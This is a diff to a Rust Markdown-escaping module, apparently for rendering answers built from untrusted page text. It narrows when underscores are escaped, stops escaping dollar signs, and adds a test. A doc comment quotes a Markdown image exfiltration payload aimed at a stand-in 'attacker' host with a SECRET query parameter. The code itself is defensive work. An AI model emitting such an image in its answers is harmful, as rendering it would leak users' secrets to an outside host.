@@ -3,9 +3,11 @@
 //! answer's `![x](https://attacker/?d=SECRET)` must not become an image fetched on render, a
 //! link must show its URL, and page text must not open headings, HTML, code fences or tables.
 
-/// Characters CommonMark and GFM give a meaning inline; each is written backslash-escaped.
+/// Characters CommonMark and GFM give a meaning inline; each is written backslash-escaped
+/// (`_` only where it could open or close emphasis: `cheapest_price` stays as it is). `$` is
+/// left alone: prices read as prices, and math loads nothing.
 const SPECIAL: &[char] =
-    &['\\', '`', '*', '_', '[', ']', '(', ')', '<', '>', '!', '|', '~', '&', '#', '{', '}', '$'];
+    &['\\', '`', '*', '_', '[', ']', '(', ')', '<', '>', '!', '|', '~', '&', '#', '{', '}'];
 
 /// `text` on one line, as inert markdown: link and image syntax becomes its words plus the
 /// URL shown as code (`[docs](https://x)` → `docs (link: `https://x`)`, an image is never
@@ -93,8 +95,13 @@ fn code_span(text: &str) -> String {
 }
 
 fn escape_into(out: &mut String, word: &str) {
-    for c in word.chars() {
-        if SPECIAL.contains(&c) {
+    let chars: Vec<char> = word.chars().collect();
+    for (i, &c) in chars.iter().enumerate() {
+        let inside_word = c == '_'
+            && i > 0
+            && chars[i - 1].is_alphanumeric()
+            && chars.get(i + 1).is_some_and(|n| n.is_alphanumeric());
+        if SPECIAL.contains(&c) && !inside_word {
             out.push('\\');
         }
         out.push(c);
@@ -135,6 +142,11 @@ mod tests {
             "\\[redacted\\] ok \\[\\[x\\]\\] \\(image not shown: s, `https://e.example/p.png`\\) \
              docs \\(link: `https://e.example/d`\\)"
         );
+    }
+
+    #[test]
+    fn identifiers_and_prices_read_as_written_but_emphasis_cannot_open() {
+        assert_eq!(inert("cheapest_price $7 _em_ *b*"), "cheapest_price $7 \\_em\\_ \\*b\\*");
     }
 
     #[test]
